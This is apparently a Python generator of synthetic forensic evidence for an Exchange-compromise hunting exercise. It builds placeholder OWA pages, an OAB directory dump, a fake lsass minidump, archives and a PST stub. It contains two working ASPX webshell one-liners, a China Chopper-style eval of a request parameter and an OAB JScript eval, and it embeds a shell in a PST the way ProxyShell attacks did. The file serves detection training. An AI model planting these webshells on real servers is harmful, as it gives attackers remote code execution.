"""Files on disk: webshells, stock Exchange page placeholders, a minidump, a 7z and a PST header, a backup zip.

Every binary is small and built field by field; none is a working program. The placeholders say they are
synthetic.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from datetime import datetime

from exgen.common import Rng

SYNTHETIC = "exhunt example evidence (synthetic placeholder, not Microsoft's file)"

OWA_AUTH_STOCK = ["errorFE.aspx", "expiredpassword.aspx", "frowny.aspx", "logoff.aspx", "logon.aspx",
                  "OutlookCN.aspx", "RedirSuiteServiceProxy.aspx", "signout.aspx", "getidtoken.htm"]


def stock_owa_auth() -> dict[str, str]:
    """Stock files of FrontEnd/HttpProxy/owa/auth: short placeholders (no code), marked synthetic."""
    out = {}
    for name in OWA_AUTH_STOCK:
        if name.endswith(".htm"):
            out[name] = (f"<!DOCTYPE html>\r\n<!-- {SYNTHETIC} -->\r\n<html><head><title>{name}</title></head>"
                         "<body></body></html>\r\n")
        else:
            page = name.rsplit(".", 1)[0]
            out[name] = (f"<%@ Page Language=\"C#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy."
                         f"{page}\" %>\r\n<%-- {SYNTHETIC} --%>\r\n<!DOCTYPE html>\r\n<html><head><title>Outlook"
                         "</title></head><body></body></html>\r\n")
    out["Current/themes/resources/logon.css"] = f"/* {SYNTHETIC} */\r\nbody {{ font-family: \"Segoe UI\"; }}\r\n"
    return out


def chopper_one_liner(param: str) -> str:
    return f"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"{param}\"],\"unsafe\");%>"


OAB_SCRIPT = '<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>'


def oab_vdir_dump(server: str, fqdn: str, version: str, external_url: str) -> str:
    """What ResetOABVirtualDirectory writes to its FilePathName: the OAB virtual directory's properties."""
    rows = [
        ("Name", "OAB (Default Web Site)"), ("PollInterval", "480"), ("OfflineAddressBooks", ""),
        ("RequireSSL", "False"), ("BasicAuthentication", "False"), ("WindowsAuthentication", "True"),
        ("OAuthAuthentication", "True"), ("MetabasePath", f"IIS://{fqdn}/W3SVC/1/ROOT/OAB"),
        ("Path", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB"),
        ("ExtendedProtectionTokenChecking", "None"), ("ExtendedProtectionFlags", ""),
        ("ExtendedProtectionSPNList", ""), ("AdminDisplayVersion", version), ("Server", server),
        ("InternalUrl", f"https://{fqdn}/OAB"), ("InternalAuthenticationMethods", "WindowsIntegrated"),
        ("ExternalUrl", external_url), ("ExternalAuthenticationMethods", "WindowsIntegrated"),
        ("AdminDisplayName", ""), ("ExchangeVersion", "0.10 (14.0.100.0)"),
        ("DistinguishedName", f"CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={server},CN=Servers,"
                              "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,"
                              "CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local"),
        ("Identity", f"{server}\\OAB (Default Web Site)"),
    ]
    return "".join(f"{key:<32}: {value}\r\n" for key, value in rows)


def minidump(rng: Rng, when: datetime, size: int = 6144) -> bytes:
    """A small MINIDUMP (MDMP) of lsass.exe: header, stream directory, module list with UTF-16 names,
    and pseudo-random 'memory'. Structurally plausible, holds no real memory."""
    modules = ["C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\SYSTEM32\\ntdll.dll",
               "C:\\Windows\\system32\\lsasrv.dll", "C:\\Windows\\system32\\msv1_0.dll",
               "C:\\Windows\\system32\\wdigest.DLL", "C:\\Windows\\system32\\kerberos.DLL"]
    header_size, dir_size = 32, 3 * 12
    sysinfo_rva = header_size + dir_size
    sysinfo = struct.pack("<HHHBBIIIHH", 9, 6, 0x5507, 1, 3, 10, 0, 17763, 2, 0).ljust(56, b"\0")
    modlist_rva = sysinfo_rva + len(sysinfo)
    modlist_size = 4 + 108 * len(modules)
    names_rva = modlist_rva + modlist_size
    names = b""
    entries = b""
    base = 0x7FF6_1A2B_0000
    for index, path in enumerate(modules):
        encoded = path.encode("utf-16-le")
        name_rva = names_rva + len(names)
        names += struct.pack("<I", len(encoded)) + encoded + b"\0\0"
        fixed = struct.pack("<I", 0xFEEF04BD).ljust(52, b"\0")
        entries += struct.pack("<QIIII", base + index * 0x100000, 0x20000 + index * 0x1000, 0,
                               0x5C1B3F00 + index, name_rva) + fixed + b"\0" * 32
    memory_rva = names_rva + len(names)
    # Memory64ListStream: one range; its bytes follow the 32-byte list header
    raw_size = max(64, size - memory_rva - 32)
    raw = (b"lsass.exe\0" + bytes(rng.getrandbits(8) for _ in range(raw_size)))[:raw_size]
    memory = struct.pack("<QQQQ", 1, memory_rva + 32, base + 0x10_0000_0000, len(raw)) + raw
    directory = struct.pack("<III", 7, len(sysinfo), sysinfo_rva)
    directory += struct.pack("<III", 4, modlist_size, modlist_rva)
    directory += struct.pack("<III", 9, len(memory), memory_rva)
    header = struct.pack("<IIIIIIQ", 0x504D444D, 0x0000A793, 3, header_size, 0, int(when.timestamp()), 0x2)
    return header + directory + sysinfo + struct.pack("<I", len(modules)) + entries + names + memory


def seven_zip(rng: Rng, payload_size: int = 3072) -> bytes:
    """A 7z archive whose packed stream and (encrypted) header are opaque bytes, as with `7z a -p -mhe=on`.
    The signature header and both CRCs are consistent."""
    packed = bytes(rng.getrandbits(8) for _ in range(payload_size))
    next_header = bytes([0x17]) + bytes(rng.getrandbits(8) for _ in range(95))  # kEncodedHeader + opaque
    start = struct.pack("<QQI", len(packed), len(next_header), zlib.crc32(next_header))
    sig = b"7z\xbc\xaf\x27\x1c" + b"\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start
    return sig + packed + next_header


def pst_with_webshell(rng: Rng, shell: str, size: int = 8192) -> bytes:
    """A PST file's start (!BDN, Unicode format) followed by blocks; the exported draft's attachment shows the
    webshell in clear where IIS will parse it (the ProxyShell trick), the rest is opaque."""
    header = b"!BDN" + struct.pack("<I", 0) + b"SM" + struct.pack("<HHBBI", 23, 19, 1, 1, 0)
    header = header.ljust(512, b"\0")
    body = bytearray(rng.getrandbits(8) for _ in range(size - len(header)))
    blob = shell.encode("ascii")
    at = 2048 + rng.randint(0, 512)
    body[at:at + len(blob)] = blob
    return header + bytes(body)


def kernel_dump(rng: Rng, size: int = 4096) -> bytes:
    """The start of a Windows kernel crash dump (PAGEDU64), which is not a user-mode minidump."""
    head = b"PAGEDU64" + struct.pack("<II", 0x0F, 17763)
    return head + bytes(rng.getrandbits(8) for _ in range(size - len(head)))


def backup_zip(files: dict[str, str], when: tuple[int, int, int, int, int, int]) -> bytes:
    """A real zip (stored, fixed timestamps, so the bytes never change)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as archive:
        for name in sorted(files):
            info = zipfile.ZipInfo(name, date_time=when)
            info.external_attr = 0o644 << 16
            info.create_system = 3  # the same bytes whatever platform runs the generator
            archive.writestr(info, files[name])
    return buf.getvalue()
